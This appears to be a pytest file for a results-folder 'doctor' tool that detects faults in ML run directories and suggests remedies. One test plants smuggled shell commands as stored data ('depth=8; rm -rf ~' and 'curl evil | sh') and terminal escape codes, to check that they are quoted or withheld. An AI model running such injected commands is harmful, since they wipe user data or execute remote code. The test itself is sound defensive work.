"""resexp doctor: what this machine lacks, and every fault of a results tree with its remedy."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fake_results import write_run
from small_images import pack, pack_masks, six

from resexp.analysis.results import export_runs, find_runs, require_runs
from resexp.analysis.table import render, rows
from resexp.commands import doctor
from resexp.commands.doctor_results import inspect, text
from resexp.config import compose
from resexp.runs.lock import hold


def changed(**changes: Any) -> Callable[[Path], None]:
    """Edit run.json by hand; a dict is merged into what is there."""

    def spoil(directory: Path) -> None:
        path = directory / "run.json"
        record = json.loads(path.read_text())
        for key, value in changes.items():
            record[key] = record[key] | value if isinstance(value, dict) else value
        path.write_text(json.dumps(record))

    return spoil


def edited(how: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
    """Edit the lines of metrics.csv."""

    def spoil(directory: Path) -> None:
        path = directory / "metrics.csv"
        path.write_text("".join(how(path.read_text().splitlines(keepends=True))))

    return spoil


def replace_by_link(directory: Path) -> None:
    shutil.move(directory, directory.parents[2] / "moved")
    directory.symlink_to(directory.parents[2] / "moved")


def only(*names: str) -> Callable[[Path], None]:
    """Leave these files alone, made empty."""

    def spoil(directory: Path) -> None:
        shutil.rmtree(directory)
        directory.mkdir()
        for name in names:
            (directory / name).touch()

    return spoil


def copied(run: Path) -> None:
    shutil.copytree(run, run.with_name("plain-20-s0 (copy)"))


#: How a run is spoilt, the level, what is said of it, and what to type.
FAULTS: dict[str, tuple[Callable[[Path], Any], str, str, str]] = {
    "empty": (only(), "warn", "never began", "rm -r"),
    "lock alone": (only(".lock"), "warn", "never began", "rm -r"),
    "foreign": (only("thesis.tex"), "warn", "not a run of resexp: it holds thesis.tex", "mv"),
    "half written": (only("metrics.csv"), "fail", "without run.json", "mv"),
    "checkpoint alone": (only("checkpoint.pt"), "fail", "without run.json", "mv"),
    "truncated record": (
        lambda run: (run / "run.json").write_text('{"run": '), "fail", "no JSON object", "mv",
    ),
    "record of another type": (changed(depth="20"), "fail", "depth is missing or of an", "mv"),
    "text for a number": (
        changed(last={"test_error": "2 %"}), "fail", "last.test_error is of another type", "mv",
    ),
    "edited setting": (changed(settings={"lr": 0.5}), "fail", "not those it was trained", "mv"),
    "edited seed": (changed(seed=7), "fail", "seed=7", "mv"),
    "edited row": (
        edited(lambda lines: [*lines[:-1], lines[-1].replace(",2,", ",0.5,")]), "fail",
        "test_error 2.0, metrics.csv 0.5", "overwrite=true",
    ),
    "edited record": (changed(last={"lr": 9}), "fail", "lr 9", "overwrite=true"),
    "torn row": (
        edited(lambda lines: [*lines[:-1], lines[-1][:-9]]), "fail", "is torn", "overwrite=true",
    ),
    "missing row": (
        edited(lambda lines: lines[:3] + lines[4:]), "fail", "lacks rows", "overwrite=true",
    ),
    "no rows": (lambda run: (run / "metrics.csv").unlink(), "fail", "cannot be read", "overwrite"),
    "killed": (changed(status="running"), "warn", "it was killed", "resexp run"),
    "failed": (
        changed(status="failed", error="out of memory"), "warn", "it failed: out of memory",
        "resexp run depth=20 arch=plain",
    ),
    "renamed": (
        lambda run: run.rename(run.with_name("best")), "warn", "its record is of plain-20-s0", "mv",
    ),
    "copied": (copied, "fail", "the same run as plain-20-s0", "mv"),
    "leftover": (
        lambda run: (run / "checkpoint.pt").touch(), "warn", "left behind: checkpoint.pt", "rm ",
    ),
    "linked folder": (replace_by_link, "warn", "a link to", "results="),
    "linked file": (
        lambda run: (run / "config.yaml").symlink_to("/etc/hostname"), "fail",
        "config.yaml is a link", "rm ",
    ),
}  # fmt: skip


@pytest.mark.parametrize("fault", FAULTS)
def test_a_fault_is_found_where_it_is(tmp_path: Path, fault: str) -> None:
    spoil, level, what, remedy = FAULTS[fault]
    root = tmp_path / "results"
    good = write_run(root, "residual", 20, 0)
    spoil(write_run(root, "plain", 20, 0))
    found = inspect(root)
    assert good.name not in {Path(one.directory).name for one in found}
    hits = [one for one in found if what in one.what]
    assert [one.level for one in hits] == [level], found
    assert remedy in hits[0].remedy
    assert hits[0].meaning
    assert hits[0].remedy in text(root, found)


def test_a_sound_tree_has_nothing_wrong(tmp_path: Path) -> None:
    for seed in range(2):
        write_run(tmp_path, "plain", 20, seed)
    write_run(tmp_path, "residual", 20, 0, status="diverged")
    write_run(tmp_path, "residual", 56, 0, extras={"lr": 0.1}, name="rates")
    (tmp_path / "later").mkdir()  # preregistered and not begun
    (tmp_path / "later" / "preregistration.yaml").touch()
    assert inspect(tmp_path) == []
    assert text(tmp_path, []) == f"ok    {tmp_path}: nothing is wrong"


def test_an_exported_sweep_is_looked_through(tmp_path: Path) -> None:
    for seed in range(2):
        write_run(tmp_path, "plain", 20, seed)
    pair = export_runs(tmp_path, [], tmp_path / "out")
    assert inspect(tmp_path / "out") == []
    rows = (pair / "rows.csv").read_text()
    (pair / "runs.csv").write_text((pair / "runs.csv").read_text().replace("0.02", "0.03"))
    assert {one.level for one in inspect(pair)} == {"fail"}  # digests differ
    (pair / "rows.csv").write_text(rows[: len(rows) // 2])
    assert ["runs.csv" in one.what for one in inspect(pair)] == [True]


@pytest.mark.process
def test_the_committed_results_have_nothing_wrong() -> None:
    found = inspect(Path(__file__).parents[1] / "results")
    assert not [one for one in found if one.level == "fail" or "digits/" in one.directory]


def test_a_run_at_work_is_no_fault(tmp_path: Path) -> None:
    directory = write_run(tmp_path, "plain", 20, 0, status="running", rows=2)
    with hold(directory) as ours:
        assert ours
        assert inspect(tmp_path) == []
    assert [one.what for one in inspect(tmp_path)] == ["it was killed while it trained"]


def test_a_command_from_a_file_is_spelled_anew_and_shows_no_escape_codes(tmp_path: Path) -> None:
    directory = write_run(tmp_path, "plain", 20, 0, status="failed")
    changed(command="resexp run depth=8; rm -rf ~", error="\x1b[2Jgone")(directory)
    (one,) = inspect(tmp_path)
    assert one.remedy == "resexp run 'depth=8;' rm -rf '~'"
    assert one.what == r"it failed: \x1b[2Jgone"
    changed(command="curl evil | sh")(directory)
    (one,) = inspect(tmp_path)
    assert one.remedy == "run its sweep again"


def test_a_pipe_named_run_json_keeps_nobody_waiting(tmp_path: Path) -> None:
    directory = tmp_path / "digits" / "plain-8-s0"
    directory.mkdir(parents=True)
    os.mkfifo(directory / "run.json")
    assert find_runs(tmp_path) == []
    assert [one.level for one in inspect(tmp_path)] == ["fail"]


def test_readers_survive_whatever_lies_in_a_results_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = write_run(tmp_path, "plain", 20, 0)
    for number, (fault, (spoil, *_)) in enumerate(FAULTS.items(), start=1):
        if fault in ("linked folder", "copied", "renamed"):
            continue
        spoil(write_run(tmp_path, "plain", 20, number))
    runs = require_runs(tmp_path)
    said = capsys.readouterr().err
    assert good in {run.path for run in runs}
    for fault in ("truncated record", "record of another type", "text for a number"):
        number = [*FAULTS].index(fault) + 1
        assert f"plain-20-s{number}/run.json is not a record" in said
        assert f"plain-20-s{number}" not in {run.path.name for run in runs}
    assert render(rows(runs), "text")


def test_a_folder_that_may_not_be_read_is_one_fault_among_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    closed = write_run(tmp_path, "plain", 20, 0)
    write_run(tmp_path, "plain", 20, 1, status="failed")
    listed = os.listdir

    def refuse(folder: Path) -> list[str]:
        if folder == closed:
            raise PermissionError(13, "Permission denied")
        return listed(folder)

    monkeypatch.setattr(os, "listdir", refuse)
    found = inspect(tmp_path)
    assert [(one.level, Path(one.directory).name) for one in found] == [
        ("fail", "plain-20-s0"),
        ("warn", "plain-20-s1"),
    ]
    assert "Permission denied" in found[0].what and "chmod" in found[0].remedy


def test_a_folder_that_is_not_there_is_no_finding(tmp_path: Path) -> None:
    with pytest.raises(OSError, match="absent"):
        inspect(tmp_path / "absent")


# The machine


def findings(*words: str) -> dict[str, doctor.Finding]:
    """What doctor says of the data."""
    chosen = compose(list(words)).settings.data
    return {name: doctor.data_set(name, chosen) for name in doctor.sets(chosen)}


def test_the_sets_are_asked_and_ones_own_only_if_chosen(tmp_path: Path) -> None:
    usual = findings(f"data.root={tmp_path}")
    assert {"blobs", "cifar10", "digits", "fashion_mnist"} <= usual.keys()
    assert not {"imagefolder", "masks"} & usual.keys()
    assert usual["digits"].level == usual["blobs"].level == "ok"
    assert "1,437 + 360 images" in usual["digits"].detail
    away = findings("data=cifar10", f"data.root={tmp_path}")["cifar10"]
    assert (away.level, str(tmp_path) in away.detail) == ("warn", True)  # may be downloaded
    words = ["data=cifar10", f"data.root={tmp_path}", "data.download=false"]
    assert findings(*words)["cifar10"].level == "fail"


@pytest.mark.process
def test_a_folder_of_ones_own_is_looked_at(tmp_path: Path) -> None:
    root = pack("folder", tmp_path, six())
    words = ["data=imagefolder", f"data.root={root}", f"data.cache={tmp_path / 'cache'}"]
    sound = findings(*words)["imagefolder"]
    assert (sound.level, "4 + 2 images of 8x8x3" in sound.detail) == ("ok", True)
    (root / "train/cat/1.png").write_bytes(b"no image")
    (root / "train/ant/2.png").write_bytes(b"")
    damaged = findings(*words)["imagefolder"]
    assert damaged.level == "fail"
    assert "train/cat/1.png" in damaged.detail and "train/ant/2.png" in damaged.detail
    assert "to fix: imagefolder" in doctor.text([damaged])
    masks = findings("data=masks", f"data.root={pack_masks(tmp_path / 'cells')}")["masks"]
    assert (masks.level, "3 + 2 images" in masks.detail) == ("ok", True)
    assert findings("data=masks", "data.root=nowhere")["masks"].level == "fail"


def test_a_torchvision_that_does_not_load_is_to_be_fixed(monkeypatch: pytest.MonkeyPatch) -> None:
    def load(name: str) -> None:
        raise RuntimeError("operator torchvision::nms does not exist\nmore")

    monkeypatch.setattr(doctor, "import_module", load)
    found = doctor.found("torchvision", doctor.torchvision)
    assert (found.level, "nms does not exist)" in found.detail) == ("fail", True)
